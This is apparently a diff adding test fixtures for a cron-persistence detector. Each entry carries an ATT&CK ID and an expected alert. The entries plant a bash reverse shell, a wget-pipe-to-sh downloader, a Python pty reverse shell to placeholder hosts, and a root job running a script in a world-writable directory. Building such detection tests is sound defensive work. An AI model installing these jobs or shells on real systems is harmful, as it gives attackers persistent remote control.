@@ -179,4 +179,42 @@ BEHAVIOURS = (
         files={"/etc/cron.daily/zz-man": "#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.14/1 0>&1'\n"},
         modes={"/etc/cron.daily/zz-man": 0o755},
     ),
+    Behaviour(
+        name="cron_calls_plain_script_that_fetches_code",
+        techniques=("T1053.003", "T1105"),
+        does="A job calls a script in /usr/local/lib whose name says nothing; the script fetches code and runs it.",
+        marks=("/usr/local/lib/metrics/collect.sh",),
+        raises=("cron_job_command_script_fetches_or_decodes_code",),
+        files={
+            "/etc/cron.d/metrics": "23 * * * * root cd /usr/local/lib/metrics && ./collect.sh >/dev/null 2>&1\n"
+            "24 * * * * root test -x /usr/local/lib/metrics/collect.sh\n",
+            "/usr/local/lib/metrics/collect.sh": "#!/bin/sh\nset -e\nwget -qO- http://203.0.113.15/c | sh -s --\n",
+        },
+        modes={"/usr/local/lib/metrics/collect.sh": 0o755},
+    ),
+    Behaviour(
+        name="cron_job_of_user_runs_python_script_with_shell",
+        techniques=("T1053.003", "T1059.004"),
+        does="A user's job lets Python run a script that opens a shell.",
+        marks=("/usr/games/lib/scores.py",),
+        raises=("cron_job_script_opens_network_shell",),
+        files={
+            "/var/spool/cron/crontabs/news": "@hourly /usr/bin/env python3 -u /usr/games/lib/scores.py\n",
+            "/usr/games/lib/scores.py": "import os, pty, socket\ns = socket.socket()\n"
+            "s.connect(('203.0.113.16', 443))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
+        },
+        modes={"/var/spool/cron/crontabs/news": 0o600},
+    ),
+    Behaviour(
+        name="cron_runs_script_that_anybody_may_exchange",
+        techniques=("T1053.003",),
+        does="Root's job runs a script in a directory where every account may put another in its place.",
+        marks=("/srv/shared/rotate-all.sh",),
+        raises=("cron_job_script_writable_by_others",),
+        shell="mkdir -p /srv/shared && chmod 777 /srv/shared && chmod 755 /srv/shared/rotate-all.sh",
+        files={
+            "/etc/cron.d/rotate-all": "5 1 * * * root nice -n 19 /srv/shared/rotate-all.sh\n",
+            "/srv/shared/rotate-all.sh": "#!/bin/sh\nexit 0\n",
+        },
+    ),
 )
